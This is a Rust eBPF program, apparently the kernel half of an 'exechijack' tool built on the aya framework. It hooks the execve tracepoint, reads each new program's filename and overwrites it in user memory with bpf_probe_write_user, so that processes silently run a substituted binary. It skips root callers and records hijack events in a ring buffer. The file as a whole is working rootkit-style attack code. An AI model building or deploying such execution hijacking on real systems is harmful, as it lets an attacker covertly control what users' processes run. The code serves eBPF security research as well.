#![no_std]
#![no_main]

use aya_ebpf::{
    helpers::{
        bpf_get_current_pid_tgid, bpf_get_current_uid_gid, bpf_probe_read_user_str_bytes,
        bpf_probe_write_user,
    },
    macros::{map, tracepoint},
    maps::{ring_buf::RingBufEntry, RingBuf},
    programs::TracePointContext,
};
use aya_log_ebpf::{debug, info};
use exechijack_common::{
    handle_execve, EventChannel, EventSlot, ExecveContext, HijackEvent, Outcome, ProgramName,
    EVENTS_BYTE_SIZE, FILENAME_OFFSET, TASK_COMM_LEN,
};

#[map]
static EVENTS: RingBuf = RingBuf::with_byte_size(EVENTS_BYTE_SIZE, 0);

/// Parent pid filter, set by the loader. Not consulted by the handler yet.
#[unsafe(no_mangle)]
static TARGET_PPID: i32 = 0;

#[tracepoint]
pub fn exechijack(ctx: TracePointContext) -> u32 {
    match try_exechijack(ctx) {
        Ok(ret) => ret,
        Err(ret) => ret as u32,
    }
}

fn try_exechijack(ctx: TracePointContext) -> Result<u32, i64> {
    let execve = Execve::new(&ctx);
    match handle_execve(&execve, &Events) {
        Outcome::RootCaller => {
            debug!(&ctx, "[EXECVE_HIJACK] skip hijack root user");
        }
        Outcome::NameTooShort => {
            debug!(&ctx, "[EXECVE_HIJACK] program name too small");
        }
        Outcome::NoMatch => {}
        Outcome::Hijacked {
            pid,
            rewritten,
            written,
            reported,
        } => {
            let path = unsafe { core::str::from_utf8_unchecked(rewritten.trimmed()) };
            info!(
                &ctx,
                "[EXECVE_HIJACK] pid {} -> {} written={} reported={}",
                pid,
                path,
                written as u8,
                reported as u8
            );
        }
    }
    Ok(0)
}

struct Execve<'a> {
    ctx: &'a TracePointContext,
    filename: *const u8,
}

impl<'a> Execve<'a> {
    fn new(ctx: &'a TracePointContext) -> Self {
        let filename = unsafe { ctx.read_at::<*const u8>(FILENAME_OFFSET) }
            .unwrap_or(core::ptr::null());
        Self { ctx, filename }
    }
}

impl ExecveContext for Execve<'_> {
    fn pid_tgid(&self) -> u64 {
        bpf_get_current_pid_tgid()
    }

    fn uid_gid(&self) -> u64 {
        bpf_get_current_uid_gid()
    }

    fn read_filename(&self, dst: &mut ProgramName) {
        // A failed read leaves the zeroed buffer, which the short-name guard rejects.
        let _ = unsafe { bpf_probe_read_user_str_bytes(self.filename, dst.as_mut_bytes()) };
    }

    fn write_filename(&self, src: &ProgramName) -> bool {
        let dst = self.filename as *mut [u8; TASK_COMM_LEN];
        match unsafe { bpf_probe_write_user(dst, src.as_bytes() as *const _) } {
            Ok(()) => true,
            Err(err) => {
                debug!(self.ctx, "[EXECVE_HIJACK] write failed: {}", err);
                false
            }
        }
    }
}

struct Events;

impl EventChannel for Events {
    type Slot = Reserved;

    fn reserve(&self) -> Option<Reserved> {
        EVENTS.reserve::<HijackEvent>(0).map(Reserved)
    }
}

struct Reserved(RingBufEntry<HijackEvent>);

impl EventSlot for Reserved {
    fn write(&mut self, event: HijackEvent) {
        self.0.write(event);
    }

    fn submit(self) {
        self.0.submit(0);
    }
}

#[cfg(not(test))]
#[panic_handler]
fn panic(_info: &core::panic::PanicInfo) -> ! {
    loop {}
}

#[unsafe(link_section = "license")]
#[unsafe(no_mangle)]
static LICENSE: [u8; 13] = *b"Dual MIT/GPL\0";
